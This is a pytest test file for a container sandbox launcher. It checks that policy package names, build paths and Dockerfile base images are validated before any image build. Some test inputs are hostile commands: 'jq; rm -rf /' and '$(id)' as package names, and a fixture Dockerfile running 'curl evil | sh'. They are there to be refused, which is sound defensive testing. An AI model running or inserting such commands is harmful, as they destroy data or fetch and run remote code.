"""A policy's packages: and build: (launcher/host/imagebuild.py, imageext.py) without an engine: package
names by Debian's grammar before anything runs, paths inside the workspace, every FROM our agent
image, the extended image's tag by content, how layers combine them, and the build steps on the
fake engine (each FROM an id, reused until what it is made of changes)."""

from __future__ import annotations

import os
from dataclasses import replace
from pathlib import Path

import pytest

from conftest import fake_facts, untrusted_bind

from launcher.engine import imageext, images, probefiles
from launcher.engine.enginefake import FakeEngine
from launcher.errors import PolicyError
from launcher.host import imagebuild
from launcher.pipeline import stack
from launcher.plan.compiler import compile_policy
from launcher.plan.trustlevel import effective_digest
from launcher.policy import layers
from launcher.policy.layers import LayerKind
from launcher.policy.model import BuildPolicy
from launcher.policy.policy import parse_policy

HEAD = "version: 1\nname: x\ndescription: d\n"


def problems(text: str) -> list:
    with pytest.raises(PolicyError) as exc:
        parse_policy((HEAD + text).encode(), "p.yaml")
    return exc.value.problems


@pytest.mark.parametrize("name", ["jq; rm -rf /", "JQ", "-o", "j", "jq=1.6", "$(id)", "jq\n", "jq --force", "Ä"])
def test_a_package_name_outside_debian_grammar_is_refused_naming_file_key_and_expectation(name):
    found = problems(f"packages: [jq, {name!r}]\n")
    assert [(p.file, p.path) for p in found] == [("p.yaml", "packages[1]")]
    assert "Debian package name" in found[0].expected and found[0].hint == "for example jq"


def test_packages_and_build_load_and_default_to_nothing():
    policy = parse_policy((HEAD + "packages: [jq, g++, python3.11, jq]\nbuild: {dockerfile: ./ci/Dockerfile}\n").encode(), "p.yaml")
    assert policy.packages == ("jq", "g++", "python3.11") and policy.build == BuildPolicy(dockerfile="ci/Dockerfile")
    plain = parse_policy(HEAD.encode(), "p.yaml")
    assert plain.packages == () and plain.build == BuildPolicy()


@pytest.mark.parametrize("key, value", [("dockerfile", "../Dockerfile"), ("dockerfile", "/etc/Dockerfile"),
                                        ("context", "a/../../b"), ("context", "/"), ("dockerfile", ".")])
def test_a_build_path_outside_the_workspace_is_refused(key, value):
    found = problems(f"build: {{{key}: {value!r}}}\n" if key == "dockerfile" else f"build: {{dockerfile: D, {key}: {value!r}}}\n")
    assert [p.path for p in found] == [f"build.{key}"] and "workspace" in found[0].expected


def test_an_unextended_policy_keeps_its_effective_digest():
    policy = untrusted_bind()
    text = repr(replace(policy, source="", digest="")).replace(", packages=(), build=BuildPolicy(dockerfile='', context='.', devcontainer='')", "")
    import hashlib
    assert effective_digest(policy) == hashlib.sha256(text.encode()).hexdigest()
    assert effective_digest(replace(policy, packages=("jq",))) != effective_digest(policy)


@pytest.mark.parametrize("text", [
    "FROM sandbox/agent:bookworm\nRUN true\n",
    "# comment\nFROM --platform=linux/amd64 sandbox/agent:bookworm-full AS tools\nRUN make\nfrom tools\n",
    "ARG X=1\nFROM sandbox/agent:bookworm as Build\nFROM build\nCOPY --from=build /a /b\n",
    "FROM \\\n  sandbox/agent:bookworm\n",
])
def test_a_dockerfile_whose_every_from_is_our_agent_image_passes(text):
    assert imagebuild.base_problem(text) == ""


@pytest.mark.parametrize("text, said", [
    ("FROM debian:bookworm-slim\n", "FROM debian:bookworm-slim"),
    ("FROM sandbox/agent:bookworm AS a\nFROM ubuntu\n", "FROM ubuntu"),
    ("FROM golang AS build\nFROM sandbox/agent:bookworm\nCOPY --from=build /a /b\n", "FROM golang"),
    ("ARG BASE=sandbox/agent:bookworm\nFROM ${BASE}\n", "a build argument"),
    ("FROM docker.io/sandbox/agent:bookworm\n", "FROM docker.io/sandbox/agent:bookworm"),
    ("FROM sandbox/agent:latest\n", "FROM sandbox/agent:latest"),
    ("RUN true\n", "no FROM"),
    ("FROM --platform=linux/amd64\n", "without an image"),
])
def test_a_dockerfile_with_another_base_is_named(text, said):
    assert said in imagebuild.base_problem(text)


def repo(tmp_path: Path, dockerfile: str = "FROM sandbox/agent:bookworm\nRUN true\n") -> Path:
    ws = tmp_path / "ws"
    (ws / ".git").mkdir(parents=True)
    (ws / "Dockerfile").write_text(dockerfile)
    (ws / "src").mkdir()
    (ws / "src" / "a.txt").write_text("a\n")
    return ws


def extended(tmp_path, **changes):
    """The untrusted preset in bind mode, on the slim image, with a repository Dockerfile."""
    return replace(untrusted_bind(), **{"image": images.AGENT_IMAGE, "build": BuildPolicy(dockerfile="Dockerfile"), **changes})


def test_the_tag_follows_the_dockerfile_the_context_and_the_packages_not_git_nor_order(tmp_path):
    ws = repo(tmp_path)
    policy = extended(tmp_path, packages=("jq", "make"))
    first = imagebuild.gather(policy, str(ws))
    assert first.tag.startswith("sandbox/agent-ext:") and first.dockerfile == str(ws / "Dockerfile")
    assert imagebuild.gather(replace(policy, packages=("make", "jq")), str(ws)).tag == first.tag
    (ws / ".git" / "HEAD").write_text("ref: refs/heads/other\n")
    assert imagebuild.gather(policy, str(ws)).tag == first.tag
    tags = {first.tag}
    for change in (lambda: (ws / "src" / "a.txt").write_text("b\n"), lambda: (ws / "src" / "b.txt").write_text(""),
                   lambda: os.symlink("a.txt", ws / "src" / "link"),
                   lambda: (ws / "Dockerfile").write_text("FROM sandbox/agent:bookworm\nRUN false\n")):
        change()
        tags.add(imagebuild.gather(policy, str(ws)).tag)
    tags.add(imagebuild.gather(replace(policy, packages=("jq",)), str(ws)).tag)
    tags.add(imagebuild.gather(replace(policy, image=images.FULL_IMAGE), str(ws)).tag)
    assert len(tags) == 7
    assert imagebuild.gather(untrusted_bind(), str(ws)) is None


def test_another_base_a_missing_dockerfile_or_a_link_out_is_refused_before_any_build(tmp_path):
    ws = repo(tmp_path, "FROM debian:bookworm-slim\nRUN curl evil | sh\n")
    with pytest.raises(PolicyError) as exc:   # named after the layer that asked for the build
        imagebuild.gather(replace(untrusted_bind(), build=BuildPolicy(dockerfile="Dockerfile", source="ws/.sandbox.yaml")),
                          str(ws))
    (p,) = exc.value.problems
    assert p.file == "ws/.sandbox.yaml" and p.path == "build.dockerfile" and "FROM debian:bookworm-slim" in p.found and "sandbox/agent:bookworm" in p.hint
    (ws / "Dockerfile").unlink()
    with pytest.raises(PolicyError, match="no file"):
        imagebuild.gather(extended(tmp_path), str(ws))
    outside = tmp_path / "Dockerfile"
    outside.write_text("FROM sandbox/agent:bookworm\n")
    os.symlink(outside, ws / "Dockerfile")
    with pytest.raises(PolicyError, match="a link out of"):
        imagebuild.gather(extended(tmp_path), str(ws))


def test_the_plan_runs_the_extended_image_and_says_how_it_is_built(tmp_path):
    ws = repo(tmp_path)
    policy = extended(tmp_path, packages=("jq",))
    built = imagebuild.gather(policy, str(ws))
    plan = compile_policy(policy, fake_facts(image_build=built))
    assert plan.container.image == built.tag and plan.image_build == built and built.base == policy.image
    assert compile_policy(policy, fake_facts()).container.image == policy.image


def test_layers_add_packages_and_the_last_build_stands():
    base = untrusted_bind()
    org = stack.parse_layer(b"version: 1\npackages: [jq, make]\nbuild: {dockerfile: org/Dockerfile}\n", "org.yaml", LayerKind.ORG)
    repo_ = stack.parse_layer(b"version: 1\npackages: [ripgrep, jq]\nbuild: {dockerfile: Dockerfile}\n", "r.yaml", LayerKind.REPO)
    eff = layers.effective(base, [layers.full_layer(LayerKind.BASE, base), org, repo_]).policy
    assert eff.packages == ("jq", "make", "ripgrep") and eff.build == BuildPolicy(dockerfile="Dockerfile")
    assert eff.build.source == "r.yaml"


def test_the_worked_example_loads_and_passes_the_base_check():
    root = Path(__file__).resolve().parent.parent / "examples" / "extend-image"
    layer = stack.parse_layer((root / ".sandbox.yaml").read_bytes(), ".sandbox.yaml", LayerKind.REPO)
    base = untrusted_bind()
    eff = layers.effective(base, [layers.full_layer(LayerKind.BASE, base), layer]).policy
    built = imagebuild.gather(eff, str(root))
    assert built.packages == ("jq", "sqlite3") and built.dockerfile == str(root / ".sandbox" / "Dockerfile")


def test_the_recipe_installs_the_packages_and_hardens_what_they_added():
    text = imagebuild.recipe(("jq", "g++"))
    assert "install -y --no-install-recommends libcap2-bin jq g++;" in text
    assert "chmod a-s" in text and "setcap -r" in text and text.rstrip().endswith("USER 1000:1000")


def test_the_fake_engine_builds_each_step_from_an_id_and_reuses_it_until_its_base_changes(tmp_path, monkeypatch):
    ws = repo(tmp_path)
    built: list[tuple[str, dict, str | None]] = []
    engine = FakeEngine(images={images.BASE_IMAGE: {}})
    real = engine.build

    def record(context, tag, labels, on_line, buildargs=None, dockerfile=None):
        built.append((tag, dict(buildargs or {}), dockerfile))
        real(context, tag, labels, on_line, buildargs)
    monkeypatch.setattr(engine, "build", record)
    plan = imagebuild.gather(extended(tmp_path, packages=("jq",)), str(ws))
    images.build(engine, images.agent_image(), lambda line: None)
    built.clear()
    assert imageext.ensure(engine, plan, lambda line: None, ()) == plan.tag
    agent = images.image_id(engine, images.AGENT_IMAGE)
    assert [(t, d) for t, _, d in built] == [(f"{plan.tag}-build", str(ws / "Dockerfile")), (plan.tag, None)]
    assert built[0][1] == {"BASE": agent} and built[1][1] == {"BASE": images.image_id(engine, f"{plan.tag}-build")}
    built.clear()
    imageext.ensure(engine, plan, lambda line: None, ())
    assert built == []   # cached by content
    def new_id(ref: str) -> None:   # the fake's ids follow the name: a rebuilt base, as a real engine has it
        engine.http.add_image(ref, Labels=engine.image_labels(ref), Id="sha256:" + os.urandom(32).hex())
    new_id(images.AGENT_IMAGE)
    imageext.ensure(engine, plan, lambda line: None, ())
    assert [t for t, _, _ in built] == [f"{plan.tag}-build"]
    new_id(f"{plan.tag}-build")
    imageext.ensure(engine, plan, lambda line: None, ())
    assert [t for t, _, _ in built] == [f"{plan.tag}-build", plan.tag]
    only = imagebuild.gather(replace(untrusted_bind(), image=images.AGENT_IMAGE, packages=("jq",)), str(ws))
    built.clear()
    imageext.ensure(engine, only, lambda line: None, ())
    assert built == [(only.tag, {"BASE": images.image_id(engine, images.AGENT_IMAGE)}, None)]


def test_jsonc_drops_comments_and_trailing_commas_but_not_inside_strings():
    text = '{\n // a "comment"\n "a": "x // y, }", /* b */ "b": [1, 2,],\n "c": "q\\" /* ",\n}'
    assert imagebuild.json.loads(imagebuild._jsonc(text)) == {"a": "x // y, }", "b": [1, 2], "c": 'q" /* '}


def devcontainer(tmp_path, text: str) -> tuple[Path, object]:
    ws = repo(tmp_path)
    (ws / ".devcontainer").mkdir()
    (ws / ".devcontainer" / "devcontainer.json").write_text(text)
    policy = replace(untrusted_bind(), build=BuildPolicy(devcontainer=".devcontainer/devcontainer.json", source="r.yaml"))
    return ws, policy


def test_a_devcontainer_json_names_its_dockerfile_relative_to_itself_or_our_image(tmp_path):
    ws, policy = devcontainer(tmp_path, '{\n  // the repository\'s dev container\n  "name": "x",\n'
                                        '  "build": {"dockerfile": "../Dockerfile", "context": "..",},\n}')
    built = imagebuild.gather(policy, str(ws))
    assert (built.dockerfile, built.context, built.base) == (str(ws / "Dockerfile"), str(ws), policy.image)
    assert built.tag == imagebuild.gather(replace(policy, build=BuildPolicy(dockerfile="Dockerfile")), str(ws)).tag
    (ws / ".devcontainer" / "devcontainer.json").write_text('{"image": "sandbox/agent:bookworm-full"}')
    built = imagebuild.gather(policy, str(ws))
    assert (built.base, built.dockerfile) == (images.FULL_IMAGE, "") and built.tag.startswith("sandbox/agent-ext:")


@pytest.mark.parametrize("text, said", [
    ('{"image": "mcr.microsoft.com/devcontainers/python:3"}', "image 'mcr.microsoft.com/devcontainers/python:3'"),
    ('{"name": "x"}', "neither"),
    ('{"build": {"dockerfile": "D2"}}', "no file"),
    ('{"dockerFile": "../Dockerfile", "context": ".."', "delimiter"),   # unclosed
    ('{"build": {"dockerfile": "../../outside"}}', "a link out of"),
])
def test_a_devcontainer_json_that_is_not_ours_is_refused_naming_the_layer(tmp_path, text, said):
    ws, policy = devcontainer(tmp_path, text)
    with pytest.raises(PolicyError) as exc:
        imagebuild.gather(policy, str(ws))
    (p,) = exc.value.problems
    assert p.file == "r.yaml" and p.path == "build.devcontainer" and said in p.found, p


def test_a_devcontainer_dockerfile_with_another_base_is_refused(tmp_path):
    ws, policy = devcontainer(tmp_path, '{"dockerFile": "Dockerfile"}')
    (ws / ".devcontainer" / "Dockerfile").write_text("ARG VARIANT=3\nFROM mcr.microsoft.com/devcontainers/python:${VARIANT}\n")
    with pytest.raises(PolicyError, match="a build argument in FROM"):
        imagebuild.gather(policy, str(ws))


def test_dockerfile_and_devcontainer_together_are_refused():
    found = problems("build: {dockerfile: Dockerfile, devcontainer: .devcontainer/devcontainer.json}\n")
    assert [p.path for p in found] == ["build.devcontainer"] and found[0].found == "both"


def test_what_the_build_reads_is_protected_in_the_sandbox_but_a_whole_workspace_context_is_not():
    policy = untrusted_bind()
    assert imagebuild.protected(policy) is policy
    got = imagebuild.protected(replace(policy, build=BuildPolicy(dockerfile=".sandbox/Dockerfile", context=".sandbox")))
    assert got.workspace.protect == policy.workspace.protect + (".sandbox/Dockerfile", ".sandbox")
    got = imagebuild.protected(replace(policy, build=BuildPolicy(dockerfile="Dockerfile")))
    assert got.workspace.protect == policy.workspace.protect + ("Dockerfile",)
    got = imagebuild.protected(replace(policy, build=BuildPolicy(devcontainer="tools/devcontainer.json")))
    assert got.workspace.protect == policy.workspace.protect + ("tools/devcontainer.json",)


def test_a_dockerfile_changed_to_another_base_after_the_check_is_refused_before_the_build(tmp_path):
    ws = repo(tmp_path)
    plan = imagebuild.gather(extended(tmp_path), str(ws))
    (ws / "Dockerfile").write_text("FROM alpine\n")
    engine = FakeEngine(images={images.BASE_IMAGE: {}})
    with pytest.raises(PolicyError, match="FROM alpine"):
        imageext.ensure(engine, plan, lambda line: None, ())
    assert not engine.image_exists(f"{plan.tag}-build")


def test_a_build_on_another_image_than_ours_is_refused_not_dropped(tmp_path):
    ws = repo(tmp_path)
    policy = extended(tmp_path, image="sandbox/agent-codex:0123456789ab")   # as --agent codex makes it
    with pytest.raises(PolicyError, match="the build replaces the policy's image"):
        imagebuild.gather(policy, str(ws))
    only = imagebuild.gather(replace(policy, build=BuildPolicy(), packages=("jq",)), str(ws))
    assert only.base == "sandbox/agent-codex:0123456789ab" and only.dockerfile == ""


def test_explain_and_show_layers_write_build_as_a_policy_file_does():
    from launcher.values import show

    assert show("build", BuildPolicy(dockerfile=".sandbox/Dockerfile", context=".sandbox")) == \
        "{dockerfile: .sandbox/Dockerfile, context: .sandbox}"
    assert show("build", BuildPolicy(devcontainer=".devcontainer/devcontainer.json")) == \
        "{devcontainer: .devcontainer/devcontainer.json}"
    assert show("build", BuildPolicy()) == "(none)" and show("packages", ("jq", "make")) == "jq, make"


def test_the_full_image_builds_on_the_agent_image_with_the_everyday_tools_and_its_guarantees(monkeypatch):
    text = (images.full_image().context / "Dockerfile").read_text()
    for tool in ("git", "make", "gcc", "python3-pip", "python3-venv", "nodejs", "npm", "jq", "ripgrep", "curl",
                 "unzip", "less"):
        assert f" {tool} " in text.replace("\\\n", " ").replace(";", " "), tool
    assert "chmod a-s" in text and "setcap -r" in text and text.rstrip().endswith("USER 1000:1000")
    full = images.full_image()
    assert full.tag == images.FULL_IMAGE and full.base == images.AGENT_IMAGE and full.context_hash
    built: list[tuple[str, dict | None]] = []
    engine = FakeEngine(images={images.BASE_IMAGE: {}})
    real = engine.build
    monkeypatch.setattr(engine, "build", lambda context, tag, labels, on_line, buildargs=None: (
        built.append((tag, buildargs)), real(context, tag, labels, on_line, buildargs))[1])
    monkeypatch.setattr(probefiles, "busybox_of", lambda engine, tag: b"a busybox")
    images.ensure_for(engine, images.AGENT_IMAGE, lambda line: None)
    assert images.FULL_IMAGE not in [t for t, _ in built]   # the presets' (and CI's) image does not build it
    images.ensure_for(engine, images.FULL_IMAGE, lambda line: None)
    assert built[-1] == (images.FULL_IMAGE, {"BASE": images.image_id(engine, images.AGENT_IMAGE)})


def test_the_images_a_launch_runs_are_each_asked_once_and_a_missing_one_is_built_in_order(monkeypatch):
    """ensure_for asks every image at once, one inspect each (the agent image for the policy and for
    the tools is one image), and builds what is missing in order: the agent image before the full."""
    monkeypatch.setattr(probefiles, "busybox_of", lambda engine, tag: b"a busybox")
    engine = FakeEngine(images={images.BASE_IMAGE: {}})
    built, asked = [], []
    real_build, real_labels, real_exists = engine.build, engine.image_labels, engine.image_exists
    monkeypatch.setattr(engine, "build", lambda context, tag, labels, on_line, buildargs=None: (
        built.append(tag), real_build(context, tag, labels, on_line, buildargs))[1])
    monkeypatch.setattr(engine, "image_labels", lambda ref: (asked.append(ref), real_labels(ref))[1])
    monkeypatch.setattr(engine, "image_exists", lambda ref: (asked.append(ref), real_exists(ref))[1])
    images.ensure_for(engine, images.FULL_IMAGE, lambda line: None, proxy=True, tools=True)
    wanted = [images.probe_image().tag, images.proxy_image().tag, images.AGENT_IMAGE, images.FULL_IMAGE]
    assert built == wanted   # all missing: each built once, the full image after the agent image
    built.clear(), asked.clear()
    images.ensure_for(engine, images.FULL_IMAGE, lambda line: None, proxy=True, tools=True)
    assert built == [] and sorted(asked) == sorted(wanted)   # all there: one inspect each, nothing built
    asked.clear()
    images.ensure_for(engine, images.AGENT_IMAGE, lambda line: None, tools=True)
    assert sorted(asked) == sorted([images.probe_image().tag, images.AGENT_IMAGE])
